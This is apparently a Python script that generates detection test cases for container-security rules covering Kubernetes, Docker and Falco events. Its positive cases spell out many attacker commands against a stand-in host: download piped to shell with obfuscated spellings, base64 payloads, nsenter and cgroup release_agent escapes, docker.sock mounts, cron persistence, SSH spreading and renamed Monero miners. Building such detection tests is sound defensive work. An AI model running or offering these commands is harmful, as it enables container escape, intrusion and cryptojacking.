#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the spelling cases under corpus/<pack>/: for each rule NAME,
NAME.pos.spellings.{jsonl,log} (events that must fire it) and
NAME.neg.spellings.{jsonl,log} (near misses that must not), plus benign
look-alikes in corpus/benign/spellings.{jsonl,log} (nothing at medium or
above may fire). They cover the many ways one behaviour can be written:
shell spellings of download-and-execute, renamed miners, nsenter and mount
forms, host path spellings. gen_cases.py writes the plain NAME.pos.* files;
this file only the .spellings ones. Each case says why it is (not) a match.

Run from the repository root: python3 tools/gen_spellings.py"""

import hashlib
import os
import sys
from urllib.parse import quote

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from eventlib import (Clock, audit, docker_create_body, docker_event,  # noqa: E402
                      dockerd_create, dockerd_exec, falco_alert, stable_id, workload)

clock = Clock(start_offset=3 * 86400, step=3)
CASES = {}  # (pack, rule) -> {"pos": {"jsonl": [], "log": []}, "neg": {...}}
BENIGN = {"jsonl": [], "log": []}
C2 = "198.51.100.7"


def t():
    return clock.tick()


def _put(slot, events):
    for ev in events:
        if isinstance(ev, list):
            slot["log"].extend(ev)
        elif ev.startswith("{"):
            slot["jsonl"].append(ev)
        else:
            slot["log"].append(ev)


def add(pack, rule, kind, *events):
    slot = CASES.setdefault((pack, rule), {"pos": {"jsonl": [], "log": []},
                                           "neg": {"jsonl": [], "log": []}})
    _put(slot[kind], events)


def benign(*events):
    _put(BENIGN, events)


# ---- event builders -------------------------------------------------------

def ctr(name="app", image="ubuntu:22.04", command=None, args=None, env=None, mounts=None):
    c = {"name": name, "image": image, "imagePullPolicy": "IfNotPresent", "resources": {}}
    if command is not None:
        c["command"] = command
    if args is not None:
        c["args"] = args
    if env:
        c["env"] = [{"name": k, "value": v} for k, v in env]
    if mounts:
        c["volumeMounts"] = mounts
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    return c


def spec(containers, volumes=None):
    s = {"containers": containers, "restartPolicy": "Always", "dnsPolicy": "ClusterFirst",
         "schedulerName": "default-scheduler", "securityContext": {}}
    if volumes:
        s["volumes"] = volumes
    return s


def host_vol(name, path, type_=""):
    return {"name": name, "hostPath": {"path": path, "type": type_}}


def k8s(resource, name, pod_spec, ns="default", user="alice@corp.example"):
    return audit(t(), "create", resource, ns, user=user,
                 request_object=workload(resource, name, ns, pod_spec))


def pod(name, command=None, args=None, env=None, resource="pods", image="ubuntu:22.04"):
    return k8s(resource, name, spec([ctr(image=image, command=command, args=args, env=env)]))


def kexec(argv, pod_name="api-5f7c9-x2x7q", ns="shop"):
    query = "&".join("command=" + quote(a, safe="") for a in argv)
    return audit(t(), "create", "pods", ns, name=pod_name, subresource="exec",
                 stage="ResponseStarted", query=query + "&container=app&stdin=true&stdout=true")


def dcreate(name, cmd=None, entrypoint=None, image="ubuntu:22.04", **kw):
    return dockerd_create(t(), name, docker_create_body(image, cmd=cmd, entrypoint=entrypoint,
                                                        **kw))


def dexec(argv, cid="4f1d2c3b9a77"):
    return dockerd_exec(t(), stable_id("spell", cid), argv)


def devent(action, cmdline, cid="c0ffee"):
    full = stable_id("spell-ev", cid)
    return docker_event(t(), f"{action}: {cmdline}", full, image="ubuntu:22.04", name="web",
                        extra={"execID": stable_id("exec", cmdline)})


def falco(cmdline, name="sh", rule="Run shell untrusted", priority="Notice", **extra):
    fields = {"proc.cmdline": cmdline, "proc.name": name}
    fields.update(extra)
    return falco_alert(t(), rule, priority, fields)


def wallet(seed, length=95, first="4"):
    """A Monero-shaped address: base58 characters, deterministic."""
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    digest = b""
    i = 0
    while len(digest) < length:
        digest += hashlib.sha256(f"{seed}/{i}".encode()).digest()
        i += 1
    return first + "".join(alphabet[b % 58] for b in digest[:length - 1])


# ================================================================ T1610 ===
P = "t1610"
R = "download_piped_to_shell"

add(P, R, "pos",
    # a variable holding the downloader's name, assigned earlier in the script
    pod("var-dl", command=["sh", "-c"], args=[f"D=curl; $D -s http://{C2}/a | sh"]),
    # $(VAR) the kubelet expands from env before the shell runs
    pod("env-dl", command=["/bin/sh", "-c", f"$(FETCH) http://{C2}/b.sh | sh"],
        env=[("FETCH", "wget -qO-")]),
    # process substitution, in a Deployment's pod template
    pod("procsub", command=["bash", "-c"], args=[f"bash <(curl -fsSL http://{C2}/i.sh)"],
        resource="deployments"),
    # busybox applets on both sides
    dcreate("bb", cmd=["sh", "-c", f"busybox wget -O- http://{C2}/s | busybox sh"],
            image="alpine:3.19"),
    # eval of a command substitution, entrypoint plus cmd
    dcreate("evl", entrypoint=["/bin/bash", "-c"], cmd=[f"eval \"$(wget -qO- http://{C2}/e)\""]),
    # saved to a file, made executable, run from the working directory
    kexec(["sh", "-c", f"cd /tmp; wget http://{C2}/x; chmod +x x; ./x"]),
    # absolute path of the downloader, env wrapper before the shell
    kexec(["/bin/sh", "-c", f"/usr/bin/curl -s http://{C2}/p | env sh"]),
    # quotes and a backslash inside the program names
    dexec(["bash", "-c", f"c''url -s http://{C2}/q | b\\ash"]),
    # Docker event of an exec: the command line joined by the daemon
    devent("exec_start", f"bash -c curl -s http://{C2}/t | bash"),
    # here-string holding a substitution
    falco(f"sh -c sh <<< \"$(wget -qO- http://{C2}/u)\""),
    # source of a process substitution
    falco(f"bash -c source <(curl -s http://{C2}/v)", name="bash"),
    # downloaded with -o, then run by a shell as a script file
    falco(f"sh -c curl -s http://{C2}/w -o /tmp/.w && sh /tmp/.w"),
    # bash's /dev/tcp as the downloader, in a CronJob
    pod("tcp", command=["bash", "-c"], args=[f"exec 3<>/dev/tcp/{C2}/80; cat </dev/tcp/{C2}/80 | bash"],
        resource="cronjobs"),
    # Kinsing-style, wrapped in nohup and timeout, sudo -E before the shell
    pod("wrapped", command=["sh", "-c", f"nohup timeout 60 wget -q -O - {C2}/d.sh | sudo -E bash -s &"]),
    # backticks as the command
    dexec(["sh", "-c", f"`curl -s http://{C2}/bt`"]),
    # an interpreter reading the download from its standard input
    kexec(["sh", "-c", f"curl -fsSL http://{C2}/p.py | python3"]),
    # bash's $'...' hex escapes spelling curl
    falco(f"bash -c $'\\x63\\x75\\x72\\x6c' -s http://{C2}/h | sh", name="bash"),
    # ${IFS} for blanks, an empty $@ inside the name
    kexec(["sh", "-c", f"cu$@rl${{IFS}}-s${{IFS}}http://{C2}/ifs|sh"]),
    # brace expansion of whole words
    pod("braces", command=["bash", "-c"], args=[f"{{wget,-qO-,http://{C2}/br}}|{{bash,-s}}"]))
add(P, R, "neg",
    # fetched and checked, never run
    pod("verify", command=["sh", "-c"],
        args=[f"wget -O /tmp/tool.tgz http://{C2}/tool.tgz && sha256sum /tmp/tool.tgz"]),
    # the pipeline is only printed
    dexec(["sh", "-c", f"echo 'curl http://{C2}/x | sh'"]),
    # the download goes into a file a different program reads
    kexec(["sh", "-c", f"curl -o /tmp/data.json http://{C2}/d; python3 /app/load.py /tmp/data.json"]),
    # sh -c with its own script does not read the pipe
    falco(f"sh -c curl -s http://{C2}/f | sh -c 'cat > /tmp/out'"),
    # unpacked, not executed
    falco(f"sh -c wget -qO- http://{C2}/app.tgz | tar xz -C /opt"),
    # $$ escapes the kubelet's expansion: echo prints a substitution's output
    pod("escaped", command=["sh", "-c", f"echo $$(curl -s http://{C2}/motd)"]))

R = "base64_decoded_shell_command"
add(P, R, "pos",
    dcreate("ossl", cmd=["sh", "-c", "openssl base64 -d <<< Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | sh"]),
    pod("b64sub", command=["bash", "-c"], args=["sh -c \"$(echo ZWNobyBoaQ== | base64 --decode)\""]),
    kexec(["bash", "-c", "bash <<< $(base64 -d <<< ZWNobyBoaQ==)"]),
    falco("sh -c echo ZWNobyBoaQ== | base64 -D | /bin/sh"),
    dexec(["sh", "-c", "xxd -r -p <<< 6375726c202d7320687474703a2f2f78207c207368 | sh"]))
add(P, R, "neg",
    # decoded into a file, never run
    pod("cfg", command=["sh", "-c", "echo $CONFIG_B64 | base64 -d > /etc/app/config.json && exec /app"]),
    kexec(["sh", "-c", "base64 -d /run/secrets/token.b64 | jq ."]))

R = "nsenter_host_namespaces"
add(P, R, "pos",
    kexec(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh"]),
    dexec(["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"]),
    falco("nsenter -a -t1 /bin/bash", name="nsenter"),
    pod("nsenter-pod", command=["nsenter", "--target=1", "--all", "--", "sh", "-c", "id"]),
    kexec(["sh", "-c", "sudo nsenter -m/proc/1/ns/mnt -- cat /etc/shadow"]),
    devent("exec_create", "nsenter -t 1 -m sh"),
    falco("nsenter --mount=/proc/1/ns/mnt --net=/proc/1/ns/net -- ip a", name="nsenter"))
add(P, R, "neg",
    # another process's namespaces
    kexec(["nsenter", "-t", "4242", "-n", "ip", "addr"]),
    # a CNI network namespace file
    falco("nsenter --net=/var/run/netns/cni-1234 ip a", name="nsenter"),
    # 1 is an argument of the program run, not nsenter's target
    dexec(["nsenter", "-t", "77", "-n", "--", "sleep", "1"]))

R = "host_block_device_accessed"
add(P, R, "pos",
    kexec(["mount", "/dev/sda1", "/mnt"]),
    dexec(["debugfs", "-w", "/dev/vda1"]),
    falco("sh -c mkdir /h && mount /dev/nvme0n1p1 /h && chroot /h", name="sh"),
    pod("dd", command=["dd", "if=/dev/xvda", "of=/tmp/mbr", "bs=512", "count=1"]))
add(P, R, "neg",
    # listing mounts and grepping for the disk: no mount of it
    kexec(["sh", "-c", "mount | grep /dev/sda1"]),
    kexec(["mount", "-t", "tmpfs", "tmpfs", "/mnt/scratch"]),
    dexec(["dd", "if=/dev/zero", "of=/tmp/blob", "bs=1M", "count=4"]))

R = "kernel_filesystem_mounted"
add(P, R, "pos",
    kexec(["sh", "-c", "mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp"]),
    dexec(["mount", "-t", "proc", "proc", "/host-proc"]),
    falco("mount --types=cgroup2 none /x", name="mount"),
    pod("tproc", command=["sh", "-c", "mount -tproc none /p && ls /p"]))
add(P, R, "neg",
    kexec(["mount", "-t", "tmpfs", "tmpfs", "/scratch"]),
    falco("mount -o remount,ro /data", name="mount"))

R = "host_kernel_hook_written"
add(P, R, "pos",
    kexec(["sh", "-c", "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent"]),
    dexec(["sh", "-c", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"]),
    falco("sh -c echo /evil | tee /sys/fs/cgroup/rdma/release_agent"),
    falco("sh -c cat /tmp/payload >> /proc/sys/kernel/modprobe", name="sh"),
    falco("bash", name="bash", rule="Write below root", priority="Error",
          **{"fd.name": "/proc/sys/kernel/core_pattern", "evt.type": "openat"}))
add(P, R, "neg",
    # reading and testing: a security sweep
    kexec(["cat", "/sys/fs/cgroup/memory/release_agent"]),
    kexec(["sh", "-c", "test -f /sys/fs/cgroup/x/release_agent && echo present"]),
    falco("cat /proc/sys/kernel/core_pattern", name="cat", rule="Read sensitive file untrusted",
          **{"fd.name": "/proc/sys/kernel/core_pattern", "evt.type": "openat"}))

R = "shell_analysis_cut_short"
add(P, R, "pos",
    # substitutions nested past the depth limit
    kexec(["sh", "-c", "echo " + "$(" * 12 + "curl x" + ")" * 12]),
    # more commands than the analysis keeps
    dexec(["sh", "-c", "; ".join(["true"] * 200)]))
add(P, R, "neg",
    kexec(["sh", "-c", "echo $(date) $(hostname) $(id -u)"]))

# Path spellings of sensitive host paths, Kubernetes and Docker.
R = "sensitive_host_path_mounted"
add(P, R, "pos",
    k8s("pods", "dbl-slash", spec([ctr(mounts=[{"name": "s", "mountPath": "/s"}])],
                                  [host_vol("s", "//var/run//docker.sock")])),
    k8s("pods", "dot", spec([ctr(mounts=[{"name": "s", "mountPath": "/s"}])],
                            [host_vol("s", "/var/run/./docker.sock")])),
    k8s("pods", "dotdot", spec([ctr(mounts=[{"name": "s", "mountPath": "/s"}])],
                               [host_vol("s", "/var/log/../run/docker.sock", "Socket")])),
    k8s("daemonsets", "trailing", spec([ctr(mounts=[{"name": "s", "mountPath": "/s"}])],
                                       [host_vol("s", "/run/containerd/")])),
    # the volume is harmless; the subPath mounted by the container is not
    k8s("pods", "subpath", spec([ctr(mounts=[{"name": "v", "mountPath": "/d.sock",
                                              "subPath": "run/docker.sock"}])],
                                [host_vol("v", "/var")])),
    k8s("pods", "k3s", spec([ctr(mounts=[{"name": "s", "mountPath": "/c.sock"}])],
                            [host_vol("s", "/run/k3s/containerd/containerd.sock")])),
    k8s("pods", "podman-rootless", spec([ctr(mounts=[{"name": "s", "mountPath": "/p.sock"}])],
                                        [host_vol("s", "/run/user/1000/podman/podman.sock")])),
    k8s("pods", "microk8s", spec([ctr(mounts=[{"name": "s", "mountPath": "/c.sock"}])],
                                 [host_vol("s", "/var/snap/microk8s/common/run/containerd.sock")])),
    # the parent directory hands over every socket in it
    k8s("pods", "var-run", spec([ctr(mounts=[{"name": "s", "mountPath": "/host-run",
                                              "readOnly": True}])],
                                [host_vol("s", "/var/run")])),
    dcreate("crio", cmd=["sleep", "1d"], binds=["/run//crio/crio.sock:/crio.sock"]),
    dcreate("bk", cmd=["sleep", "1d"], mounts=[{"Type": "bind", "Source": "/run/buildkit/",
                                                  "Target": "/bk", "ReadOnly": False}]),
    dcreate("dd-ro", cmd=["sleep", "1d"],
            binds=["/var/run/../run/docker.sock:/var/run/docker.sock:ro"]),
    dcreate("cri-dockerd", cmd=["sleep", "1d"], binds=["/var/run/cri-dockerd.sock:/c.sock"]))
add(P, R, "neg",
    # log and certificate directories, read-only
    k8s("pods", "logs", spec([ctr(mounts=[{"name": "l", "mountPath": "/var/log", "readOnly": True}])],
                             [host_vol("l", "/var/log")])),
    # a subPath that narrows a data directory to a harmless file
    k8s("pods", "data-sub", spec([ctr(mounts=[{"name": "v", "mountPath": "/run-state",
                                               "subPath": "run"}])],
                                 [host_vol("v", "/var/lib/app")])),
    # a relative bind source is a named volume, not a host path
    dcreate("named", cmd=["sleep", "1d"], binds=["run:/var/run"]),
    dcreate("lock", cmd=["sleep", "1d"], binds=["/run/xtables.lock:/run/xtables.lock"]))

# ================================================================== Doki ===
R = "host_root_bind_mounted"
add("doki", R, "pos",
    dcreate("root-dot", cmd=["sleep", "1d"], binds=["/.:/host"]),
    dcreate("root-up", cmd=["sleep", "1d"], binds=["/tmp/..:/tmp/h:rw"]),
    k8s("pods", "root-sub", spec([ctr(mounts=[{"name": "h", "mountPath": "/host",
                                               "subPath": ".."}])],
                                 [host_vol("h", "/etc")])))
add("doki", R, "neg",
    # read-only root: nothing can be dropped (sensitive_host_path_mounted still reports it)
    dcreate("root-ro", cmd=["sleep", "1d"], binds=["//:/host:ro"]),
    dcreate("root-ro-m", cmd=["sleep", "1d"], mounts=[{"Type": "bind", "Source": "/",
                                                        "Target": "/host", "ReadOnly": True}]))

# =============================================================== Kinsing ===
P = "kinsing"
R = "cron_minutely_download_to_shell"
add(P, R, "pos",
    kexec(["sh", "-c", f"(crontab -l; echo \"*/2 * * * * wget -q -O- http://{C2}/a.sh | sh\") | crontab -"]),
    dexec(["bash", "-c", f"echo \"@reboot curl -fsSL http://{C2}/r.sh | bash\" >> /var/spool/cron/crontabs/root"]),
    pod("crond", command=["sh", "-c", f"printf '%s\\n' '0 */6 * * * root curl -s http://{C2}/c.sh|sh' > /etc/cron.d/sys"]),
    falco(f"sh -c echo \"@hourly $LDR http://{C2}/ex.sh | sh\" | crontab -"),
    kexec(["sh", "-c", f"crontab - <<EOF\n*/5 * * * * wget -qO /tmp/.s http://{C2}/s && sh /tmp/.s\nEOF"]))
add(P, R, "neg",
    # a scheduled job that downloads nothing
    kexec(["sh", "-c", "(crontab -l; echo \"*/5 * * * * /usr/local/bin/backup.sh\") | crontab -"]),
    # a download on a schedule that is never run
    dexec(["sh", "-c", "echo \"0 3 * * * curl -s http://backup.internal/ping\" | crontab -"]))

R = "kinsing_ubuntu_dropper_command"
add(P, R, "pos",
    dcreate("kin-yum", cmd=["/bin/bash", "-c", f"yum install -y curl cronie && curl -s http://{C2}/k.sh -o /tmp/k.sh && sh /tmp/k.sh"]),
    dcreate("kin-apk", cmd=["sh", "-c", f"apk add --no-cache wget dcron; wget -qO- {C2}/x.sh | sh; tail -f /dev/null"],
            image="alpine:3.19"),
    pod("kin-k8s", command=["/bin/bash", "-c"],
        args=[f"apt-get update && apt-get install -y wget cron; service cron start; D=wget; $D -q -O - {C2}/lh.sh | bash; tail -f /dev/null"]))
add(P, R, "neg",
    # the same packages, nothing downloaded and run
    dcreate("img-build", cmd=["/bin/bash", "-c", "apt-get update && apt-get install -y curl cron && rm -rf /var/lib/apt/lists/*"]))

R = "ssh_spread_download_to_shell"
add(P, R, "pos",
    falco(f"ssh -o StrictHostKeyChecking=no root@10.0.0.5 curl -s http://{C2}/spr.sh | bash", name="ssh"),
    kexec(["ssh", "-i", "/root/.ssh/id_rsa", "admin@10.0.0.6", "-oStrictHostKeyChecking=no",
           f"wget -q -O - http://{C2}/spr.sh | sudo sh"]))
add(P, R, "neg",
    kexec(["ssh", "-o", "StrictHostKeyChecking=no", "deploy@10.0.0.7", "systemctl restart app"]))

R = "rival_miner_killed"
add(P, R, "pos",
    kexec(["sh", "-c", "kill -9 $(pgrep -f kdevtmpfsi)"]),
    dexec(["sudo", "/usr/bin/killall", "-q", "xmrig"]))
add(P, R, "neg",
    kexec(["sh", "-c", "pgrep -a xmrig || echo none"]))

WALLET = wallet("primary")
SUBADDR = wallet("sub", first="8")
INTEGRATED = wallet("integrated", length=106)

R = "xmrig_options_renamed_miner"
add(P, R, "pos",
    falco(f"/tmp/.x/sysupdate -o pool.supportxmr.com:443 -u {WALLET} -k --tls --donate-level=1",
          name="sysupdate", **{"proc.exepath": "/tmp/.x/sysupdate"}),
    dcreate("kw", cmd=["/usr/local/bin/kworker", "--url=stratum+ssl://gulf.moneroocean.stream:20128",
                       f"--user={SUBADDR}", "--coin=monero"]),
    pod("renamed", command=["/opt/app/worker"], args=["-o", "xmr.pool.example:3333", "-a", "rx/0",
                                                       "-u", "x"]),
    dexec(["./dbus", "-c", "config.json", "--donate-level", "0", "--cpu-max-threads-hint=75"]),
    kexec(["sh", "-c", "nohup ./.sys/kthreadd --randomx-1gb-pages -o 198.51.100.9:14444 -p x &"]),
    falco("sh -c cd /dev/shm && ./bash -o stratum2+tcp://198.51.100.9:5555 -B", name="bash"))
add(P, R, "neg",
    falco("ssh -o ServerAliveInterval=30 deploy@10.0.0.5", name="ssh"),
    kexec(["curl", "-o", "/tmp/report.json", "http://api.internal:3333/report"]),
    falco("iperf3 -c 10.0.0.2 -p 5201 -t 10", name="iperf3"),
    # the miner from its config file alone: a documented blind spot of this rule
    dexec(["./dbus", "-c", "/etc/dbus/config.json"]))

R = "monero_wallet_in_command"
add(P, R, "pos",
    falco(f"./x -o 198.51.100.9:3333 -u {WALLET}.rig1", name="x"),
    dcreate("integ", cmd=["/bin/sys", "--user", INTEGRATED]),
    kexec(["sh", "-c", f"W={SUBADDR}; ./m --user=$W+50000"]))
add(P, R, "neg",
    # a sha256 digest and a base58-looking string with characters base58 leaves out
    kexec(["sha256sum", "-c", hashlib.sha256(b"x").hexdigest()]),
    dexec(["echo", "4" + "0OIl" * 23 + "abc"]))

R = "mining_pool_port_option"
add(P, R, "pos",
    falco("./x -o 198.51.100.9:3333", name="x"),
    dexec(["/usr/bin/netupd", "--url", "pool.hashvault.pro:443"]),
    kexec(["sh", "-c", "exec ./svc -o 198.51.100.9:45700"]))
add(P, R, "neg",
    kexec(["ssh", "-o", "ConnectTimeout=5", "10.0.0.5"]),
    falco("gcc -o app main.c", name="gcc"),
    dexec(["curl", "-o", "/tmp/x", "http://mirror.internal:8080/x"]))

# ============================================================== benign ===
# Ordinary commands that look like the behaviours above.
benign(
    pod("probe", command=["sh", "-c", "curl -fsS http://localhost:8080/healthz || exit 1"]),
    pod("fetch-verify", command=["sh", "-c"],
        args=["wget -O /tmp/tool.tgz https://artifacts.corp.example/tool.tgz && "
              "sha256sum -c /tmp/tool.tgz.sha256 && tar xzf /tmp/tool.tgz -C /opt"]),
    dcreate("pkgs", cmd=["/bin/sh", "-c", "apt-get update && apt-get install -y ca-certificates curl && rm -rf /var/lib/apt/lists/*"]),
    dcreate("apk", cmd=["sh", "-c", "apk add --no-cache curl jq && exec /app/run"], image="alpine:3.19"),
    kexec(["sh", "-c", "mount -t tmpfs -o size=64m tmpfs /scratch"]),
    kexec(["sh", "-c", "cat /proc/mounts | grep cgroup"]),
    falco("sh -c curl -s http://metadata.internal/health | jq .status"),
    falco("python3 -m pip install --upgrade pip", name="python3"),
    falco("sh -c echo \"0 3 * * * /usr/local/bin/backup.sh\" | crontab -"),
    falco("crontab -l", name="crontab"),
    dexec(["sh", "-c", "echo $PAYLOAD | base64 -d > /tmp/payload.json"]),
    devent("exec_start", "sh -c wget -q -O /tmp/index.html http://web:8080/ && wc -c /tmp/index.html"),
    # read-only CA certificates and time zone, as node agents mount them
    k8s("daemonsets", "agent", spec([ctr(image="registry.corp.example/agent:2.1",
                                         mounts=[{"name": "ca", "mountPath": "/etc/ssl/certs",
                                                  "readOnly": True},
                                                 {"name": "tz", "mountPath": "/etc/localtime",
                                                  "readOnly": True}])],
                                    [host_vol("ca", "/etc/ssl/certs/"),
                                     host_vol("tz", "//etc/localtime", "File")]),
        ns="monitoring", user="system:serviceaccount:monitoring:agent-operator"),
    dcreate("logs", cmd=["fluent-bit", "-c", "/fluent-bit/etc/fluent-bit.conf"],
            binds=["/var/log/:/var/log:ro", "/var/lib/docker/containers:/var/lib/docker/containers:ro"],
            image="fluent/fluent-bit:3.0"))


def main():
    root = sys.argv[1] if len(sys.argv) > 1 else "corpus"
    written = 0
    for (pack, rule), kinds in sorted(CASES.items()):
        os.makedirs(os.path.join(root, pack), exist_ok=True)
        for kind in ("pos", "neg"):
            for ext in ("jsonl", "log"):
                lines = kinds[kind][ext]
                path = os.path.join(root, pack, f"{rule}.{kind}.spellings.{ext}")
                if not lines:
                    if os.path.exists(path):
                        os.remove(path)
                    continue
                with open(path, "w") as f:
                    f.write("\n".join(lines) + "\n")
                written += 1
    for ext in ("jsonl", "log"):
        path = os.path.join(root, "benign", f"spellings.{ext}")
        with open(path, "w") as f:
            f.write("\n".join(BENIGN[ext]) + "\n")
        written += 1
    print(f"wrote {written} files for {len(CASES)} rules under {root}/")


if __name__ == "__main__":
    main()
